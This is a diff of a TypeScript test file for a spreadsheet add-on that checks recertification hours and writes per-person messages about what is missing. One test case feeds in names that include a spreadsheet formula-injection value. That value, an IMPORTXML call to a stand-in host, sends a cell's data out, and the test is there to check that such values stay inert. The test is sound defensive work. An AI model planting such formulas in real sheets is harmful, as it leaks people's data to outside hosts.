@@ -6,7 +6,7 @@ import Excel from 'exceljs';
 import type { CheckAnswer, CheckRequest, SheetReading } from '../../../src/core/protocol/messages';
 import type { ApplicantReport, CheckReport } from '../../../src/core/report/check-report';
 import { keyOf, nameOf } from '../../../src/core/report/person-key';
-import { makeMessage } from '../../../src/core/report/person-message';
+import { ROSTER_SHEET } from '../../../src/core/report/roster-table';
 import type { LocalHost } from '../../../src/local/apps-script/host';
 import { formatReport } from '../../../src/local/cli/text-report';
 import { writeXlsx } from '../../../src/local/files/write-xlsx';
@@ -16,9 +16,9 @@ import { writeRoster } from '../../../src/local/roster/write-roster';
 import { askAbout } from '../../../src/sidebar/fix/questions';
 import { reviewerFields } from '../../../src/sidebar/fix/reviewer';
 import type { ChangeSet, Filled } from '../../../src/sidebar/fix/task';
-import { makeCohorts } from '../../../src/sidebar/people/read-cohorts';
+import { makeMessage } from '../../../src/sidebar/people/message';
 import { makeRosterRows } from '../../../src/sidebar/people/roster-rows';
-import { makeRosterTable, ROSTER_SHEET } from '../../../src/sidebar/people/roster-table';
+import { makeRosterSheet } from '../../../src/sidebar/people/write-roster';
 import { openTestHost, type TestCell } from '../../addon/open-test-host';
 import { askContext, decideTask } from '../panel-tasks';
 import {
@@ -107,15 +107,20 @@ const put = (row: TestCell[], index: number, cell: TestCell) =>
 /** Makes the roster sheet as the panel does. */
 function makeSheet(host: LocalHost) {
   const report = check(host);
-  const readings = new Map(report.logs.map(({ sheet }) => [sheet, read(host, sheet)]));
-  const rows = makeRosterRows(report.applicants, makeCohorts(readings));
-  const table = makeRosterTable(report, rows);
+  const rows = makeRosterRows(report.applicants);
+  const table = makeRosterSheet(report, rows);
   return host.call('editCells', { edits: [{ op: 'table', sheet: ROSTER_SHEET, table }] });
 }
 
+// The cells of the bar are blank.
+const BAR_CELLS = 24;
+const withoutBar = <Cell>(cells: Cell[], start: number) => cells.toSpliced(start, BAR_CELLS);
+
 const plain = (rows: SheetReading['rows']) =>
   rows.map((cells) =>
-    cells.map((cell) => (typeof cell === 'object' && 'day' in cell ? cell.day : cell)),
+    withoutBar(cells, 5).map((cell) =>
+      typeof cell === 'object' && 'day' in cell ? cell.day : cell,
+    ),
   );
 
 const personOf = (report: CheckReport, email: string) =>
@@ -165,9 +170,11 @@ test('it says what the roster of many files says of the same people', async () =
     value instanceof Date ? value.toISOString().slice(0, 10) : (value ?? '');
   // Name to plan papers; the file before them and the note after them are each roster's own.
   const theirs = (sheet?.getRows(2, 4) ?? []).map((row) =>
-    Array.from({ length: 9 }, (_, index) => show(row.getCell(index + 2).value)),
+    withoutBar(
+      Array.from({ length: 9 + BAR_CELLS }, (_, index) => show(row.getCell(index + 2).value)),
+      5,
+    ),
   );
-  // A cohort that stands in the log alone is read by the panel.
   const mine = plain(read(host, ROSTER_SHEET).rows)
     .slice(4, 8)
     .map((cells) => cells.slice(0, 9));
@@ -233,7 +240,7 @@ test('plan papers are told of the set-up’s person alone', async () => {
   ]);
 });
 
-test('people in several tabs are in one roster, and a form sent again in another tab replaces the first', async () => {
+test('people in several tabs are in one roster, and the message names the tab', async () => {
   const [headings = [], ...rows] = RESPONSES;
   const of = (email: string) => [headings, ...rows.filter((row) => row[1] === email)];
   const host = await openTestHost(
@@ -251,9 +258,8 @@ test('people in several tabs are in one roster, and a form sent again in another
     ['Ann Lee', 'Elmore'],
   ]);
   const report = check(host);
-  const sent = personOf(report, 'ann@a.org').rows;
-  expect(sent.flatMap(({ findings }) => findings.map(({ message }) => message))).toContain(
-    'Row 4: Replaced by row 5.',
+  expect(makeMessage(report, personOf(report, 'ann@a.org'))).toContain(
+    '- “Ann”, row 4, Jan 8, 2026, Plan for the network (4 h)\n  No justification.',
   );
 });
 
@@ -268,8 +274,9 @@ test.each(['=IMPORTXML("https://x.test/?d="&A2,"//a")', '+1+1', '@x', 'Two\nline
     const [first] = read(host, ROSTER_SHEET).rows.slice(4);
     expect(first?.[0]).toBe(name.replace(/\s/g, ' '));
     const report = check(host);
-    const { text } = makeMessage(report, personOf(report, 'bob@a.org'));
-    expect(text.split('\n')[0]).toBe(`Dear ${name.replace(/\s/g, ' ')},`);
+    expect(makeMessage(report, personOf(report, 'bob@a.org')).split('\n')[1]).toBe(
+      `${name.replace(/\s/g, ' ')}, Dale`,
+    );
   },
 );
 
@@ -371,38 +378,41 @@ test('a later decision about the row leaves the reviewer’s as it was', async (
 
 test('the message says what is missing, row by row', async () => {
   const report = check(await open(WITH_MEALS));
-  expect(makeMessage(report, personOf(report, 'ann@a.org'))).toEqual({
-    name: 'Ann Lee',
-    address: 'ann@a.org',
-    subject: 'AL-CTO recertification: 50 hours to go',
-    text: MESSAGE,
-  });
-  expect(makeMessage(report, personOf(report, 'cy@a.org'))).toMatchObject({
-    subject: 'AL-CTO recertification: we need your issue date',
-    text: expect.stringContaining('Dear Cy Doe,\n\nWe need the issue date of your certificate'),
-  });
+  expect(makeMessage(report, personOf(report, 'ann@a.org'))).toBe(MESSAGE);
+  expect(makeMessage(report, personOf(report, 'cy@a.org'))).toContain(
+    'Cy Doe, Dale\nThe issue date of the certificate.',
+  );
 });
 
-const MESSAGE = `Dear Ann Lee,
+const MESSAGE = `AL-CTO recertification: what is still missing as of Nov 23, 2026
+Ann Lee, Elmore
+Cycle: Jun 15, 2024 to Jun 15, 2027 (204 days left)
+Standing: Behind (our estimate, not a policy rule).
+Hours: 10 of 60 covered, 50 to go.
 
-Your log for the cycle Jun 15, 2024 to Jun 15, 2027, as of Nov 23, 2026: 10 of the 60 hours you need count; 50 hours to go.
+Hours by course:
+- Roles And Responsibilities: 0 of 5 h, 5 h to go
+- Law, Ethics, and Policies: 0 of 5 h, 5 h to go
+- Data Management and Governance: 0 of 5 h, 5 h to go
+- Teaching and Learning: 0 of 5 h, 5 h to go
+- IT Management: 6 of 5 h, complete
+- Technology Planning: 4 of 5 h, 1 h to go
+- Elective hours: 1 of 30 h, 29 h to go
 
-Still needed:
-- Roles And Responsibilities: 5 hours
-- Law, Ethics, and Policies: 5 hours
-- Data Management and Governance: 5 hours
-- Teaching and Learning: 5 hours
-- Technology Planning: 1 hour
-- In any course: 29 hours
+Rows that need attention:
+- Row 13, Oct 1, 2025, Fall conference (7 h)
+  The text says the hours include a meal, the exhibit hall, or registration. Take that time out.
+- Row 14, Oct 3, 2025, Winter conference (6 h)
+  The text says the hours include a meal, the exhibit hall, or registration. Take that time out.
 
-Please send us what is missing:
-- “Fall conference”, Oct 1, 2025, 7 hours: do the hours leave out meals and exhibit time?
-- “Winter conference”, Oct 3, 2025, 6 hours: do the hours leave out meals and exhibit time?
+Rows that don’t count, and why:
+- Row 6, Sep 10, 2025, Switches in depth (6 h)
+  The same as row 2. It counts once.
+- Row 7, Jan 8, 2026, Plan for the network (4 h)
+  No justification. Explain how this relates to Technology Planning.
+  Replaced by row 8.
 
-These don’t count:
-- “Switches in depth”, Sep 10, 2025, 6 hours: sent twice; it counts once
-
-Please reply by Dec 7, 2026.
+Plan documents: not checked here.
 
 This is a self-check: whether an activity qualifies is the AL-CTO program's decision.`;
 
@@ -415,10 +425,10 @@ test('a message of hundreds of rows is whole; a missing column is named in each'
   );
   const bare = [...RESPONSES, ...many].map((cells) => cells.filter((_, index) => index !== 8));
   const report = check(await open(bare));
-  const message = makeMessage(report, personOf(report, 'ann@a.org')).text;
-  expect(message.match(/no column “Justification/g)).toHaveLength(304);
+  const message = makeMessage(report, personOf(report, 'ann@a.org'));
+  expect(message.match(/^- Row \d+, /gm)).toHaveLength(304);
   expect(message).toContain(
-    '- “Talk 299 of many”, Oct 1, 2025, 1 hour: the log has no column “Justification of Relation to Coursework”',
+    '- Row 312, Oct 1, 2025, Talk 299 of many (1 h)\n  The log has no column “Justification of Relation to Coursework”.',
   );
   expect(message).toMatch(/the AL-CTO program's decision\.$/);
 });
